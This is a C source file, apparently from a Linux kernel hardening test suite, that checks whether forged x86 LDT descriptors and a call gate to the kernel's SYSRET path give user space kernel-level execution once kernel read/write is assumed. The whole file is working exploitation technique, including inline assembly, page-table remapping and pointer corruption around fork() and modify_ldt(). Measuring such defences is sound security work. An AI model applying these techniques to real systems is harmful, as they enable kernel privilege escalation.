// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on a process's own segment descriptors. A call gate among them, which
 * modify_ldt() makes for nobody, is a way into any instruction of the kernel.
 */
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#include <asm/ldt.h>

/* In the GDT */
#define GDT_LDT		(10 * 8)

/* Entries of the table: of one page, and a number that nothing else has */
#define ENTRY_SIZE	8
#define LAST		300
#define OTHER		299
#define FORGED		2
#define SELECTOR	(FORGED << 3 | 7)

/* data segment, DPL 3, byte granular, limit 0xabcde */
#define DATA		0x004af2000000bcdeUL
#define DATA_LIMIT	0xabcde

/* A call gate of 64 bits for everybody, to the kernel's code segment */
#define GATE		(0xecUL << 40 | 0x10UL << 16)

#define FLAG_IF		0x200
#define MM_BYTES	2048		/* where in mm_struct the pointer may be */
#define TURN		50000		/* microseconds: another process runs */
#define TRIES		200

/* struct ldt_struct */
struct ldt {
	uint64_t entries;
	uint32_t nr;
	int32_t slot;
};

static sigjmp_buf after_signal;

static void note_signal(int number)
{
	(void)number;
	siglongjmp(after_signal, 1);
}

static int set_descriptor(int number)
{
	struct user_desc desc = {
		.entry_number = number,
		.limit = 1,
		.seg_32bit = 1,
		.useable = 1,
	};

	return syscall(SYS_modify_ldt, 1, &desc, sizeof(desc));
}

static bool make_ldt(void)
{
	stay_on_cpu(0);
	return !set_descriptor(LAST);
}

/* Where this CPU reads it. */
static int find_table(struct slot *slot)
{
	uint64_t base = descriptor_base(ksymbol_cpu("gdt_page", 0) + GDT_LDT);
	int err = kwalk(base, LEVEL_PTE, getpid(), slot);

	return !err && slot->value & PTE_PRESENT ? 0 : -1;
}

/*
 * The gate leads to the end of a system call: SWAPGS, SYSRET. That takes flags
 * from R11, so user space goes on with interrupts off, and by the same way back
 * with its own GS base. Returns its flags in between.
 */
static uint64_t go_through(const void *gate)
{
	uint64_t flags;

	asm volatile("mov %%rsp, %%r12\n\t"
		     "sub $256, %%rsp\n\t"
		     "pushfq\n\t"
		     "pop %%r13\n\t"
		     "mov %%r13, %%r11\n\t"
		     "and %[off], %%r11\n\t"
		     "lea 1f(%%rip), %%rcx\n\t"
		     "lcall *(%[gate])\n"
		     "1:\n\t"
		     "lea -256(%%r12), %%rsp\n\t"
		     "pushfq\n\t"
		     "pop %[flags]\n\t"
		     "mov %%r13, %%r11\n\t"
		     "lea 2f(%%rip), %%rcx\n\t"
		     "lcall *(%[gate])\n"
		     "2:\n\t"
		     "mov %%r12, %%rsp"
		     : [flags] "=&r" (flags)
		     : [gate] "r" (gate), [off] "i" (~FLAG_IF)
		     : "rcx", "r11", "r12", "r13", "memory", "cc");
	return flags;
}

/*
 * An interrupt behind the far call and before SWAPGS finds the kernel with user
 * space's GS and tables, and kills it. Right behind a tick none is due.
 */
static void wait_for_tick(void)
{
	struct timespec before, now;

	clock_gettime(CLOCK_MONOTONIC_COARSE, &before);
	do
		clock_gettime(CLOCK_MONOTONIC_COARSE, &now);
	while (!memcmp(&before, &now, sizeof(now)));
}

static bool reaches_kernel(void)
{
	static const struct {
		uint32_t offset;
		uint16_t selector;
	} gate = { .selector = SELECTOR };

	signal(SIGSEGV, note_signal);
	if (sigsetjmp(after_signal, 1))
		return false;
	wait_for_tick();
	return !(go_through(&gate) & FLAG_IF);
}

static void make_gate(uint64_t words[2])
{
	uint64_t target = ksymbol("entry_SYSRETQ_unsafe_stack");

	words[0] = GATE | (target & 0xffff) | (target & 0xffff0000) << 32;
	words[1] = target >> 32;
}

static int write_gate(uint64_t table)
{
	uint64_t words[2];

	make_gate(words);
	return kwrite(table + FORGED * ENTRY_SIZE, words, sizeof(words));
}

static enum outcome judge(bool reached, int err)
{
	if (!reached)
		return lost("store gave %d, no call gate is where the CPU looks", err);
	return won("far call by uid %d: the kernel's own SYSRET ran, and user space with interrupts off",
		   getuid());
}

/* ---- the table that the CPU reads ---- */

/* Another process has its CPU fill the table anew: whoever reads the report, say. */
static bool reaches_kernel_by(uint64_t table, int *err)
{
	int i;

	for (i = 0; i < TRIES; i++) {
		*err = write_gate(table);
		if (reaches_kernel())
			return true;
		if (*err)
			return false;
	}
	return false;
}

enum outcome ldt_call_gate(void)
{
	uint64_t nothing[2] = { 0 };
	struct slot slot;
	bool reached;
	int err;

	if (!make_ldt() || find_table(&slot))
		return broken("no LDT");
	reached = reaches_kernel_by(slot.alias, &err);
	if (!err)
		kwrite(slot.alias + FORGED * ENTRY_SIZE, nothing, sizeof(nothing));
	return judge(reached, err);
}

static unsigned int segment_limit(unsigned int selector)
{
	unsigned int limit = 0;

	asm volatile("lsl %1, %0" : "+r" (limit) : "r" (selector) : "cc");
	return limit;
}

/* The entry that maps it to where user space's tables lead as well. */
enum outcome ldt_table(void)
{
	uint64_t *table, phys;
	unsigned int limit;
	struct slot slot;
	int err;

	if (!cpu_has("pti"))
		return skipped("page-table isolation is off: the LDT has no mapping of its own");
	if (!make_ldt() || find_table(&slot) || slot.level != LEVEL_PTE)
		return broken("no LDT, or no mapping of its own");
	phys = user_page((void **)&table);
	table[FORGED] = DATA;

	err = kwrite64(slot.slot, (slot.value & ~PTE_PFN_MASK) | phys);
	flush_tlb();
	limit = segment_limit(SELECTOR);
	if (!err)
		kwrite64(slot.slot, slot.value);
	flush_tlb();
	if (limit != DATA_LIMIT)
		return lost("store gave %d, selector 0x%x has limit 0x%x", err, SELECTOR, limit);
	return won("selector 0x%x has limit 0x%x: the CPU reads descriptors from the attacker's page",
		   SELECTOR, limit);
}

/* ---- what the kernel takes it from ---- */

static bool is_ldt(uint64_t at, struct ldt *ldt)
{
	return is_kernel_address(at) && !kread(at, ldt, sizeof(*ldt)) &&
	       ldt->nr == LAST + 1 && is_kernel_address(ldt->entries) &&
	       !(ldt->entries % PAGE_SIZE);
}

/* Where the mm points to it, or 0. */
static uint64_t find_ldt(struct ldt *ldt)
{
	uint64_t words[MM_BYTES / sizeof(uint64_t)];
	struct task task;
	size_t i;

	if (ktask(0, &task) || kread(task.mm, words, sizeof(words)))
		return 0;
	for (i = 0; i < MM_BYTES / sizeof(*words); i++)
		if (is_ldt(words[i], ldt))
			return task.mm + i * sizeof(*words);
	return 0;
}

/* A page of ours with a gate, as the kernel finds it. */
static uint64_t make_page(void **page)
{
	struct slot slot;

	user_page(page);
	make_gate((uint64_t *)*page + FORGED);
	return kwalk((uint64_t)*page, LEVEL_PTE, 0, &slot) ? 0 : slot.alias;
}

/* modify_ldt() makes a new one of the old one. */
enum outcome ldt_copied_gate(void)
{
	struct ldt ldt;
	int err;

	if (!make_ldt() || !find_ldt(&ldt))
		return broken("no LDT");
	err = write_gate(ldt.entries);
	if (set_descriptor(OTHER))
		return broken("modify_ldt failed");
	return judge(reaches_kernel(), err);
}

/* So does fork(). */
enum outcome ldt_forked_gate(void)
{
	uint64_t at, entries;
	struct ldt ldt;
	void *page;
	int err, status;
	pid_t pid;

	if (!make_ldt() || !(at = find_ldt(&ldt)))
		return broken("no LDT");
	entries = make_page(&page);
	at = kread64(at);
	err = kwrite64(at, entries);
	pid = fork();
	if (!pid)
		_exit(!reaches_kernel());
	waitpid(pid, &status, 0);
	kwrite64(at, ldt.entries);
	return judge(WIFEXITED(status) && !WEXITSTATUS(status), err);
}

/* It runs on our CPU whenever we do not. */
static pid_t start_other(void)
{
	pid_t pid = fork();

	while (!pid)
		;
	return pid;
}

/* Without isolation: the CPU is told where it is when it comes from another mm. */
enum outcome ldt_forged_struct(void)
{
	struct ldt ldt, *forged;
	uint64_t at, entries, old;
	bool reached;
	void *page;
	pid_t pid;
	int err;

	if (cpu_has("pti"))
		return skipped("page-table isolation is on: an address is not believed");
	if (!make_ldt() || !(at = find_ldt(&ldt)))
		return broken("no LDT");
	pid = start_other();
	entries = make_page(&page);
	forged = page + PAGE_SIZE / 2;
	*forged = (struct ldt){ .entries = entries, .nr = LAST / 2, .slot = -1 };
	old = kread64(at);
	err = kwrite64(at, entries + PAGE_SIZE / 2);
	usleep(TURN);
	reached = reaches_kernel();
	kwrite64(at, old);
	usleep(TURN);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return judge(reached, err);
}
#else
static enum outcome only_x86(void)
{
	return skipped("there is no such table on this architecture");
}

enum outcome ldt_table(void)
{
	return only_x86();
}

enum outcome ldt_call_gate(void)
{
	return only_x86();
}

enum outcome ldt_copied_gate(void)
{
	return only_x86();
}

enum outcome ldt_forked_gate(void)
{
	return only_x86();
}

enum outcome ldt_forged_struct(void)
{
	return only_x86();
}
#endif
